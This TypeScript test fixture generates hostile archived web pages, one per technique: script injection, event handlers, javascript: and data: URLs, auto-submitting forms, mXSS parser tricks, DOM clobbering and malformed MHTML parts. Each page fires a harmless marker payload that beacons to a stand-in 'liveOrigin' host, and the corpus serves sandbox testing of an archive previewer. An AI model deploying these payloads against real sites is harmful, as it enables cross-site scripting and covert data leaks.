// A corpus of hostile archived pages: one page per attack technique, each with a visible, harmless
// marker the preview must show and an attack that does something observable if it ever works. Every
// URL in the corpus points at `${liveOrigin}/<name>/…` (a stand-in for the live web), so a request
// there tells which technique leaked. Scripts and handlers run `attackJs`, which sets
// `top.__pwned`, `parent.__pwned`, `top.document.title`, `top.localStorage.pwned` and a `pwned`
// cookie, and fetches `${liveOrigin}/<name>/beacon`.
import { makeMhtml, makeWebarchive } from './archives.ts';

export type HostileExt = 'html' | 'mhtml' | 'webarchive';

export interface HostilePage {
  name: string;
  ext: HostileExt;
  file: Buffer;
  /** Text the preview must show (`SAFE-CONTENT-<name>`). */
  marker: string;
  /**
   * A selector of an element inside the page to click, for attacks that need a user gesture (and
   * whose target is not an http(s) link, which a safe preview opens in a new tab on purpose).
   */
  click?: string;
  /**
   * The attack is observable without the preview's protections: opened as a plain page (and clicked
   * where `click` says), it makes a request to the live web or sets `__pwned`. Only HTML pages;
   * the e2e spec uses these to prove its detectors work.
   */
  leaksUnsandboxed: boolean;
  /**
   * Links the preview must open in a new tab (with `noopener`) when clicked, wherever they are:
   * nested frames, framesets, shadow roots. In plain HTML pages, links inside frames are left out:
   * the preview drops `srcdoc`, so those frames are empty (the detector still clicks them raw).
   */
  links?: HostileLink[];
  /** The links as the raw page has them (plain HTML only), for the detector. */
  rawLinks?: HostileLink[];
}

export interface HostileLink {
  /** Frame selectors from the page down to the link's document (empty: the page itself). */
  frames: string[];
  /** The link in that document. */
  selector: string;
  /** The archived address: what the new tab must show. */
  href: string;
  /** Text the link's document shows, which must still show after the click. */
  text: string;
}

/** What a technique's snippets are written with. */
interface Kit {
  name: string;
  marker: string;
  /** `${liveOrigin}/${name}/${path}`: where this technique's attack reaches the live web. */
  url(path?: string): string;
  /** The attack as JavaScript without whitespace or double quotes (fits any attribute value). */
  js: string;
}

/** Writes documents with subframes and the links the test clicks in them. */
interface FrameKit extends Kit {
  /**
   * A subframe with `id`, showing `FRAME-TEXT-<id>` and then `body()` (HTML for its `<body>`, or a
   * `<frameset>`): an archived subframe in MHTML and webarchives; in plain HTML, an `iframe srcdoc`
   * (or a `frame` with a data: URL), which the preview drops.
   */
  frame(id: string, body: () => string, tag?: 'iframe' | 'frame'): string;
  /** A link to `${liveOrigin}/<name>/<id>`, remembered with the frames it is in. */
  link(id: string): string;
}

type Snippet = (kit: Kit) => string;

interface Technique {
  name: string;
  head?: Snippet;
  body?: Snippet;
  /** Written inside `<body …>`, with a leading space. */
  bodyAttributes?: Snippet;
  /** Wraps the HTML document into an archive; plain HTML when absent. */
  pack?: (html: string, kit: Kit) => { ext: HostileExt; file: Buffer };
  click?: string;
  /** See `HostilePage.leaksUnsandboxed`; measured with Chromium, false when not given. */
  leaks?: boolean;
  /** A body with subframes and links (see `linkTechniques`); replaces `body`. */
  framed?: (kit: FrameKit) => string;
  /** The format `framed` pages are packed as. */
  format?: HostileExt;
}

/** The attack: every step on its own, so one blocked step does not stop the others. */
export function attackJs(name: string, liveOrigin: string): string {
  return [
    `fetch('${liveOrigin}/${name}/beacon',{mode:'no-cors'})`,
    `top.__pwned='${name}'`,
    `parent.__pwned='${name}'`,
    `top.document.title='pwned-${name}'`,
    `top.localStorage.setItem('pwned','${name}')`,
    `document.cookie='pwned=${name};path=/'`,
  ]
    .map((step) => `try{${step}}catch(e){}`)
    .join(';');
}

/** For HTML inside an attribute value (srcdoc). */
function escapeAttribute(html: string): string {
  return html.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
}

/** Both an HTML document (a comment, then a script and a handler) and a classic script. */
function htmlScriptPolyglot(kit: Kit): string {
  return (
    `<!--\n${kit.js}\n//-->` +
    `<p>frame document</p><script>${kit.js}</script><img src="x" onerror="${kit.js}" alt="">\n`
  );
}

const MEGABYTE = 1 << 20;
const DEEP = 10_000;
const LINK_RELS = [
  'preload',
  'prefetch',
  'dns-prefetch',
  'preconnect',
  'modulepreload',
  'icon',
  'manifest',
] as const;

/**
 * Names that shadow what a script (or the app) calls on a document, a window or a form, given by
 * `name` and `id` to every element type the standard makes a named property of the document.
 */
const CLOBBERED_NAMES = [
  'addEventListener',
  'removeEventListener',
  'querySelectorAll',
  'querySelector',
  'getElementsByTagName',
  'getElementById',
  'getElementsByName',
  'createTreeWalker',
  'defaultView',
  'body',
  'documentElement',
  'contains',
  'createElement',
  'nodeType',
  'ownerDocument',
] as const;

function clobbering(): string {
  const elements = CLOBBERED_NAMES.map(
    (name) =>
      `<img name="${name}" alt=""><form name="${name}"></form><embed name="${name}">` +
      `<img id="${name}" name="${name}" alt=""><div id="${name}"></div>`,
  ).join('');
  // Frames by name too, and a form whose controls shadow the form's own properties.
  return (
    elements +
    '<iframe name="querySelectorAll"></iframe><iframe name="addEventListener"></iframe>' +
    '<form><input name="localName"><input name="nodeType"><input name="getAttribute">' +
    '<input name="closest"><input name="parentNode">'
  );
}

/** Families of pages whose links sit in nested frames, framesets and shadow roots. */
const LINK_FAMILIES: Array<{
  name: string;
  formats: HostileExt[];
  framed: (k: FrameKit) => string;
}> = [
  {
    // Iframes in iframes, three deep, a link in each.
    name: 'nested-frame-links',
    formats: ['html', 'mhtml', 'webarchive'],
    framed: (k) =>
      k.link('link-top') +
      k.frame(
        'frame-a',
        () =>
          k.link('link-a') +
          k.frame('frame-b', () => k.link('link-b') + k.frame('frame-c', () => k.link('link-c'))),
      ),
  },
  {
    // Every level names its elements after the document's methods; links sit in a form whose
    // controls shadow the form's properties.
    name: 'clobbered-names',
    formats: ['html', 'mhtml', 'webarchive'],
    framed: (k) =>
      clobbering() +
      `${k.link('link-top')}</form>` +
      k.frame(
        'frame-a',
        () =>
          `${clobbering()}${k.link('link-a')}</form>` +
          k.frame('frame-b', () => `${clobbering()}${k.link('link-b')}</form>`),
      ),
  },
  {
    // Frames inside declarative shadow roots (open and closed), inside frames in shadow roots.
    name: 'shadow-root-frames',
    formats: ['html', 'mhtml', 'webarchive'],
    framed: (k) =>
      '<div><template shadowrootmode="open"><p>in a shadow root</p>' +
      k.link('link-shadow') +
      k.frame(
        'frame-s',
        () =>
          '<section><template shadowrootmode="closed">' +
          k.frame('frame-t', () => k.link('link-t')) +
          '</template></section>',
      ) +
      '</template></div>',
  },
  {
    // A frameset (nested in another) whose frames hold links, one of them in a shadow root.
    name: 'frameset-frames',
    formats: ['html', 'mhtml', 'webarchive'],
    framed: (k) =>
      k.link('link-top') +
      k.frame(
        'frame-f',
        () =>
          '<frameset cols="50%,50%">' +
          k.frame('frame-l', () => k.link('link-l'), 'frame') +
          '<frameset rows="50%,50%">' +
          k.frame(
            'frame-r',
            () =>
              '<div><template shadowrootmode="open">' +
              k.frame('frame-rs', () => k.link('link-rs')) +
              '</template></div>',
            'frame',
          ) +
          k.frame('frame-clobbered', () => `${clobbering()}${k.link('link-c')}</form>`, 'frame') +
          '</frameset></frameset>',
      ),
  },
];

/** One technique per family and format (`<family>-<format>`, plain HTML without the suffix). */
function linkTechniques(): Technique[] {
  return LINK_FAMILIES.flatMap(({ name, formats, framed }) =>
    formats.map((format): Technique => ({
      name: format === 'html' ? name : `${name}-${format}`,
      framed,
      format,
      leaks: true,
    })),
  );
}

/** A subframe's document. */
function frameDocument(text: string, body: string): string {
  const head = '<!DOCTYPE html>\n<html lang="en">\n<head><meta charset="utf-8"></head>\n';
  const marker = `<p class="frame-text">${text}</p>`;
  return body.startsWith('<frameset')
    ? `${head}${body}\n</html>\n`
    : `${head}<body>${marker}${body}</body>\n</html>\n`;
}

interface Framed {
  html: string;
  subframes: { id: string; url: string; html: string }[];
  links: HostileLink[];
}

/** Writes a `framed` body for `format`: the HTML, the subframe documents and the links. */
function writeFramed(technique: Technique, kit: Kit, format: HostileExt): Framed {
  const subframes: Framed['subframes'] = [];
  const links: HostileLink[] = [];
  const chain: string[] = [];
  const texts: string[] = [kit.marker];
  const frameKit: FrameKit = {
    ...kit,
    frame(id, body, tag = 'iframe') {
      const text = `FRAME-TEXT-${id}`;
      chain.push(`#${id}`);
      texts.push(text);
      const html = frameDocument(text, body());
      texts.pop();
      chain.pop();
      if (format !== 'html') {
        const url = kit.url(`${id}.html`);
        subframes.push({ id, url, html });
        return tag === 'frame'
          ? `<frame id="${id}" src="${url}">`
          : `<iframe id="${id}" src="${url}"></iframe>`;
      }
      return tag === 'frame'
        ? `<frame id="${id}" src="data:text/html;charset=utf-8,${encodeURIComponent(html)}">`
        : `<iframe id="${id}" srcdoc="${escapeAttribute(html)}"></iframe>`;
    },
    link(id) {
      links.push({
        frames: [...chain],
        selector: `#${id}`,
        href: kit.url(id),
        text: texts[texts.length - 1]!,
      });
      return `<a id="${id}" href="${kit.url(id)}">a link (${id})</a>`;
    },
  };
  const body = technique.framed!(frameKit);
  return { html: documentFor({ ...technique, body: () => body }, kit), subframes, links };
}

function packFramed(framed: Framed, kit: Kit, format: HostileExt): Buffer {
  const url = kit.url('page.html');
  switch (format) {
    case 'html':
      return Buffer.from(framed.html, 'utf8');
    case 'mhtml':
      return makeMhtml({
        html: framed.html,
        url,
        resources: framed.subframes.map((frame) => ({
          url: frame.url,
          contentType: 'text/html',
          body: frame.html,
        })),
      });
    case 'webarchive':
      return makeWebarchive({
        html: framed.html,
        url,
        subframes: framed.subframes.map((frame) => ({
          html: frame.html,
          url: frame.url,
          frameName: frame.id,
        })),
      });
  }
}

const TECHNIQUES: Technique[] = [
  // Scripts.
  { name: 'inline-script', body: (k) => `<script>${k.js}</script>`, leaks: true },
  {
    name: 'external-script',
    body: (k) => `<script src="${k.url('app.js')}"></script>`,
    leaks: true,
  },
  {
    name: 'module-script',
    body: (k) =>
      `<script type="module">${k.js};import('${k.url('dynamic.js')}');</script>` +
      `<script type="module" src="${k.url('module.js')}"></script>`,
    leaks: true,
  },
  {
    name: 'script-navigates-top',
    body: (k) => `<script>top.location='${k.url('nav')}'</script>`,
    leaks: true,
  },
  {
    name: 'script-opens-popup',
    body: (k) => `<script>window.open('${k.url('popup')}')</script>`,
    leaks: true,
  },
  // Event handlers.
  { name: 'img-onerror', body: (k) => `<img src="x" onerror="${k.js}" alt="">`, leaks: true },
  { name: 'body-onload', bodyAttributes: (k) => ` onload="${k.js}"`, leaks: true },
  {
    name: 'svg-onload',
    body: (k) =>
      `<svg onload="${k.js}" width="10" height="10"><rect width="10" height="10"/></svg>`,
    leaks: true,
  },
  {
    name: 'details-ontoggle',
    body: (k) => `<details open ontoggle="${k.js}"><summary>more</summary>details</details>`,
    leaks: true,
  },
  // javascript: and data: URLs.
  {
    name: 'javascript-link',
    body: (k) => `<a id="attack" href="javascript:${k.js}">a script link</a>`,
    click: '#attack',
    leaks: true,
  },
  {
    name: 'javascript-iframe',
    body: (k) => `<iframe src="javascript:${k.js}"></iframe>`,
    leaks: true,
  },
  {
    name: 'data-url',
    body: (k) =>
      `<iframe src="data:text/html,<script>${k.js}</script><img src='${k.url('data.png')}'>">` +
      `</iframe><a id="attack" href="data:text/html,<script>${k.js}</script>">a data link</a>`,
    click: '#attack',
    leaks: true,
  },
  {
    name: 'svg-animate-href',
    body: (k) =>
      `<svg width="200" height="30"><a id="attack"><animate attributeName="href" ` +
      `to="javascript:${k.js}"/><text y="20">an animated link</text></a></svg>`,
    click: '#attack',
    // Chromium refuses to animate an href to a javascript: URL.
  },
  // Navigation and forms.
  {
    name: 'meta-refresh',
    head: (k) => `<meta http-equiv="refresh" content="0; url=${k.url('refresh')}">`,
    leaks: true,
  },
  {
    name: 'base-href',
    head: (k) => `<base href="${k.url('base/')}">`,
    body: () =>
      '<img src="relative.png" alt=""><link rel="stylesheet" href="relative.css">' +
      '<script src="relative.js"></script><a href="relative-page">a relative link</a>',
    leaks: true,
  },
  {
    name: 'form-autosubmit',
    body: (k) =>
      `<form id="form" action="${k.url('submit')}" method="post"><input name="q" value="pwned">` +
      `</form><script>document.getElementById('form').submit()</script>`,
    leaks: true,
  },
  {
    name: 'form-formaction',
    body: (k) =>
      `<form action="${k.url('action')}" target="_top"><input name="q" value="pwned">` +
      `<button id="attack" formaction="${k.url('formaction')}" formmethod="post">Send</button>` +
      '</form>',
    click: '#attack',
    leaks: true,
  },
  // Frames, objects, SVG.
  {
    name: 'iframe-srcdoc',
    body: (k) => {
      const inner = `<script>${k.js}</script><img src='${k.url('deep.png')}' alt=''>`;
      const outer =
        `<p>outer frame</p><script>${k.js}</script>` +
        `<iframe srcdoc="${escapeAttribute(inner)}"></iframe>`;
      return `<iframe srcdoc="${escapeAttribute(outer)}"></iframe>`;
    },
    leaks: true,
  },
  {
    name: 'iframe-live',
    body: (k) => `<iframe src="${k.url('frame.html')}"></iframe>`,
    leaks: true,
  },
  {
    name: 'svg-script',
    body: (k) =>
      `<svg width="10" height="10"><script>${k.js}</script>` +
      `<script href="${k.url('svg.js')}"></script></svg>`,
    leaks: true,
  },
  {
    name: 'svg-foreign-object',
    body: (k) =>
      '<svg width="300" height="60"><foreignObject width="300" height="60"><div>' +
      `<img src="x" onerror="${k.js}" alt=""><iframe src="${k.url('foreign.html')}"></iframe>` +
      '</div></foreignObject></svg>',
    leaks: true,
  },
  {
    name: 'svg-use',
    body: (k) =>
      `<svg width="10" height="10"><use href="${k.url('sprite.svg')}#x"/>` +
      `<use xlink:href="${k.url('sprite-xlink.svg')}#x"/></svg>`,
  },
  {
    name: 'svg-image',
    body: (k) =>
      `<svg width="10" height="10"><image href="${k.url('image.png')}" width="10" height="10"/>` +
      '</svg>',
    leaks: true,
  },
  {
    name: 'object-data',
    body: (k) =>
      `<object data="${k.url('object.html')}" type="text/html" width="100" height="50">` +
      'object fallback</object>',
    leaks: true,
  },
  {
    name: 'embed-src',
    body: (k) => `<embed src="${k.url('embed.html')}" type="text/html" width="100" height="50">`,
    leaks: true,
  },
  // CSS.
  {
    name: 'css-import',
    body: (k) =>
      `<style>@import url("${k.url('import.css')}");@import '${k.url('bare.css')}';</style>`,
    leaks: true,
  },
  {
    name: 'css-background',
    body: (k) =>
      `<style>.bg{background:url(${k.url('bg.png')})}</style><div class="bg">a styled block</div>`,
    leaks: true,
  },
  {
    name: 'inline-style-url',
    body: (k) => `<div style="background-image:url('${k.url('inline.png')}')">inline style</div>`,
    leaks: true,
  },
  {
    name: 'font-face',
    body: (k) =>
      `<style>@font-face{font-family:Leak;src:url(${k.url('font.woff2')}) format('woff2')}` +
      '.leak{font-family:Leak}</style><p class="leak">a remote font</p>',
    leaks: true,
  },
  {
    name: 'link-stylesheet',
    head: (k) => `<link rel="stylesheet" href="${k.url('sheet.css')}">`,
    leaks: true,
  },
  ...LINK_RELS.map((rel): Technique => ({
    name: `link-${rel}`,
    head: (k) =>
      `<link rel="${rel}" href="${k.url(`${rel}.js`)}"${rel === 'preload' ? ' as="script"' : ''}>`,
    // Name resolution and bare connections never reach the live web as HTTP requests, and
    // headless Chromium fetches no favicon or manifest for a page set with setContent.
    leaks: !['dns-prefetch', 'preconnect', 'manifest', 'icon'].includes(rel),
  })),
  // Images and media.
  { name: 'img-src', body: (k) => `<img src="${k.url('img.png')}" alt="">`, leaks: true },
  {
    name: 'img-srcset',
    body: (k) => `<img srcset="${k.url('small.png')} 1x, ${k.url('large.png')} 2x" alt="">`,
    leaks: true,
  },
  {
    name: 'picture-source',
    body: (k) => `<picture><source srcset="${k.url('source.png')}"><img alt="a picture"></picture>`,
    leaks: true,
  },
  {
    name: 'input-image',
    body: (k) => `<input type="image" src="${k.url('input.png')}" alt="an image button">`,
    leaks: true,
  },
  {
    name: 'video-poster',
    body: (k) => `<video poster="${k.url('poster.png')}" width="100" height="50"></video>`,
    leaks: true,
  },
  {
    name: 'audio-src',
    body: (k) => `<audio src="${k.url('sound.mp3')}" preload="auto" autoplay controls></audio>`,
    leaks: true,
  },
  {
    name: 'body-background',
    bodyAttributes: (k) => ` background="${k.url('body.png')}"`,
    leaks: true,
  },
  // The archive's own policies.
  {
    name: 'archive-csp-meta',
    head: () =>
      `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">`,
    body: (k) => `<script>${k.js}</script><img src="${k.url('csp.png')}" alt="">`,
    leaks: true,
  },
  {
    name: 'meta-set-cookie',
    head: (k) => `<meta http-equiv="set-cookie" content="pwned=${k.name}; path=/">`,
  },
  {
    name: 'a-ping',
    body: (k) => `<a id="attack" href="#nowhere" ping="${k.url('ping')}">a link with ping</a>`,
    click: '#attack',
  },
  // Parser differentials (the sanitizer and the browser must agree on what is markup).
  {
    name: 'mxss-svg-style',
    body: (k) => `<svg><style><img src="${k.url('mxss.png')}" onerror="${k.js}"></style></svg>`,
    leaks: true,
  },
  {
    name: 'mxss-noscript',
    body: (k) => `<noscript><p title="</noscript><img src=x onerror=${k.js}>"></p></noscript>`,
    leaks: true,
  },
  {
    name: 'declarative-shadow-dom',
    body: (k) =>
      `<div><template shadowrootmode="open"><img src="x" onerror="${k.js}" alt="">` +
      `<style>@import url(${k.url('shadow.css')});</style><p>shadow text</p></template></div>`,
    leaks: true,
  },
  // Size.
  {
    name: 'long-attribute',
    body: (k) =>
      `<img title="${'A'.repeat(MEGABYTE)}" src="${k.url('long.png')}" onerror="${k.js}" alt="">`,
    leaks: true,
  },
  {
    name: 'deep-nesting',
    body: (k) =>
      '<div>'.repeat(DEEP) +
      `<img src="${k.url('deep.png')}" onerror="${k.js}" alt="">` +
      '</div>'.repeat(DEEP),
    leaks: true,
  },
  // Archives whose parts are not what they claim.
  {
    name: 'mhtml-malformed-boundary',
    body: (k) => `<script>${k.js}</script><iframe src="${k.url('smuggled.html')}"></iframe>`,
    pack: (html, k) => ({ ext: 'mhtml', file: malformedMhtml(html, k) }),
  },
  {
    name: 'mhtml-html-as-script',
    head: (k) => `<link rel="stylesheet" href="${k.url('style.css')}">`,
    body: (k) =>
      `<script src="${k.url('script.html')}"></script><script src="cid:script@mhtml"></script>` +
      `<iframe src="${k.url('script.html')}"></iframe><p class="styled">styled by a part</p>`,
    pack: (html, k) => ({
      ext: 'mhtml',
      file: makeMhtml({
        html,
        url: k.url('page.html'),
        resources: [
          {
            url: k.url('script.html'),
            contentType: 'text/html',
            contentId: 'script@mhtml',
            body: htmlScriptPolyglot(k),
          },
          {
            url: k.url('style.css'),
            contentType: 'text/css',
            body:
              `@import url(${k.url('imported.css')});` +
              `.styled{background:url(${k.url('part-bg.png')})}` +
              `@font-face{font-family:Part;src:url(${k.url('part.woff2')})}` +
              'body{font-family:Part}',
          },
        ],
      }),
    }),
  },
  {
    name: 'mhtml-svg-document',
    body: (k) =>
      `<iframe src="${k.url('doc.svg')}"></iframe><object data="${k.url('doc.svg')}"></object>` +
      `<embed src="${k.url('doc.svg')}"><img src="${k.url('doc.svg')}" alt="">`,
    pack: (html, k) => ({
      ext: 'mhtml',
      file: makeMhtml({
        html,
        url: k.url('page.html'),
        resources: [
          {
            url: k.url('doc.svg'),
            contentType: 'image/svg+xml',
            body:
              `<svg xmlns="http://www.w3.org/2000/svg" onload="${k.js}">` +
              `<script>${k.js}</script><image href="${k.url('svg-doc.png')}" width="1" height="1"/>` +
              '<rect width="10" height="10"/></svg>',
          },
        ],
      }),
    }),
  },
  {
    name: 'webarchive-html-subresource',
    body: (k) =>
      `<script src="${k.url('sub.html')}"></script><iframe src="${k.url('sub.html')}"></iframe>`,
    pack: (html, k) => ({
      ext: 'webarchive',
      file: makeWebarchive({
        html,
        url: k.url('page.html'),
        subresources: [
          { url: k.url('sub.html'), mimeType: 'text/html', data: htmlScriptPolyglot(k) },
        ],
      }),
    }),
  },
  {
    name: 'webarchive-script-subresource',
    body: (k) => `<script src="${k.url('app.js')}"></script>`,
    pack: (html, k) => ({
      ext: 'webarchive',
      file: makeWebarchive({
        html,
        url: k.url('page.html'),
        subresources: [{ url: k.url('app.js'), mimeType: 'text/javascript', data: k.js }],
      }),
    }),
  },
  {
    name: 'webarchive-subframe-script',
    body: (k) => `<iframe src="${k.url('subframe.html')}"></iframe>`,
    pack: (html, k) => ({
      ext: 'webarchive',
      file: makeWebarchive({
        html,
        url: k.url('page.html'),
        subframes: [
          {
            html: `<p>subframe</p><script>${k.js}</script><img src="x" onerror="${k.js}" alt="">`,
            url: k.url('subframe.html'),
            frameName: 'sub',
          },
        ],
      }),
    }),
  },
  ...linkTechniques(),
];

/**
 * An MHTML file a careless parser would split differently from a careful one: an unquoted boundary,
 * transport padding after the first delimiter, a line that merely starts with the boundary (not a
 * delimiter) followed by a smuggled HTML part, and no closing delimiter.
 */
function malformedMhtml(html: string, kit: Kit): Buffer {
  const boundary = '----MultipartBoundary--hostile----';
  const page = kit.url('page.html');
  const text = [
    'From: <Saved by Blink>',
    `Snapshot-Content-Location: ${page}`,
    `Subject: Hostile page: ${kit.name}`,
    'Date: Sat, 21 Nov 2026 10:00:00 -0000',
    'MIME-Version: 1.0',
    'Content-Type: multipart/related;',
    '\ttype="text/html";',
    `\tboundary=${boundary}`,
    '',
    '',
    `--${boundary} \t `,
    'Content-Type: text/html',
    'Content-Transfer-Encoding: 8bit',
    `Content-Location: ${page}`,
    '',
    html,
    `--${boundary}smuggled`,
    'Content-Type: text/html',
    `Content-Location: ${kit.url('smuggled.html')}`,
    '',
    htmlScriptPolyglot(kit),
    // Closed, so an upload takes it (a file without its closing delimiter is truncated).
    `--${boundary}--`,
    '',
  ].join('\r\n');
  return Buffer.from(text, 'utf8');
}

function documentFor(technique: Technique, kit: Kit): string {
  return [
    '<!DOCTYPE html>',
    '<html lang="en">',
    '<head>',
    '<meta charset="utf-8">',
    `<title>Hostile page: ${technique.name}</title>`,
    technique.head?.(kit) ?? '',
    '</head>',
    `<body${technique.bodyAttributes?.(kit) ?? ''}>`,
    `<p id="folio-marker">${kit.marker}</p>`,
    technique.body?.(kit) ?? '',
    '</body>',
    '</html>',
    '',
  ].join('\n');
}

/** The names of the techniques, in corpus order (no files built). */
export const hostileTechniqueNames: readonly string[] = TECHNIQUES.map(({ name }) => name);

/** One archived page per technique; every outside URL in them starts with `${liveOrigin}/<name>/`. */
export function hostilePages(liveOrigin: string): HostilePage[] {
  const origin = liveOrigin.replace(/\/+$/, '');
  return TECHNIQUES.map((technique) => {
    const { name } = technique;
    const kit: Kit = {
      name,
      marker: `SAFE-CONTENT-${name}`,
      url: (path = '') => `${origin}/${name}/${path}`,
      js: attackJs(name, origin),
    };
    if (technique.framed) {
      const format = technique.format ?? 'html';
      const framed = writeFramed(technique, kit, format);
      return {
        name,
        ext: format,
        file: packFramed(framed, kit, format),
        marker: kit.marker,
        leaksUnsandboxed: format === 'html' && technique.leaks === true,
        links: framed.links.filter((link) => format !== 'html' || link.frames.length === 0),
        ...(format === 'html' ? { rawLinks: framed.links } : {}),
      };
    }
    const html = documentFor(technique, kit);
    const { ext, file } = technique.pack?.(html, kit) ?? {
      ext: 'html' as const,
      file: Buffer.from(html, 'utf8'),
    };
    return {
      name,
      ext,
      file,
      marker: kit.marker,
      ...(technique.click === undefined ? {} : { click: technique.click }),
      leaksUnsandboxed: ext === 'html' && technique.leaks === true,
    };
  });
}
